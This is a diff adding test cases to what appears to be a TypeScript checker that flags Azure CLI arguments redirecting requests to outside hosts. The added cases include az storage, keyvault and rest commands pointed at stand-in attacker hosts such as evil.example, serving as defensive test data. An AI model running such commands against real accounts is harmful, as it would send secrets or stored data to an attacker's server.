@@ -143,6 +143,27 @@ describe('az', () => {
       '--url',
     ])
     expect(readingOf('az rest --url https://graph.microsoft.com/v1.0/me').redirects).toEqual([])
+    expect(readingOf('az rest --url https://evil.westeurope.cloudapp.azure.com/').redirects).toEqual([
+      '--url',
+    ])
+  })
+
+  it.each<[string, string[]]>([
+    ['storage blob list -c a --account-name acme --auth-mode login', []],
+    ['storage blob list -c a --blob-endpoint https://acme.blob.core.windows.net', []],
+    ['storage blob list -c a --blob-endpoint https://evil.example', ['--blob-endpoint']],
+    ['storage blob list -c a --blob-endpoint=evil.example', ['--blob-endpoint']],
+    ['storage blob list -c a --blob-e https://evil.example', ['--blob-e']],
+    ['storage blob show --blob-url https://evil.example/c/b', ['--blob-url']],
+    ['storage blob list -c a --account-name evil.example/', ['--account-name']],
+    ['storage blob upload -c a --file https.txt --account-name acme', []],
+    ['keyvault secret show --id https://acme.vault.azure.net/secrets/s', []],
+    ['keyvault secret show --id https://evil.example/secrets/s', ['--id']],
+    ['keyvault secret show --name s --vault-name evil.example/', ['--vault-name']],
+    ['appconfig kv list --endpoint https://evil.example', ['--endpoint']],
+    ['eventgrid event-subscription create --name a --endpoint https://hook.example', []],
+  ])('az %s', (line, redirects) => {
+    expect(readingOf(`az ${line}`).redirects).toEqual(redirects)
   })
 
   it('files behind @ are inputs, and code that az loads is another program', () => {
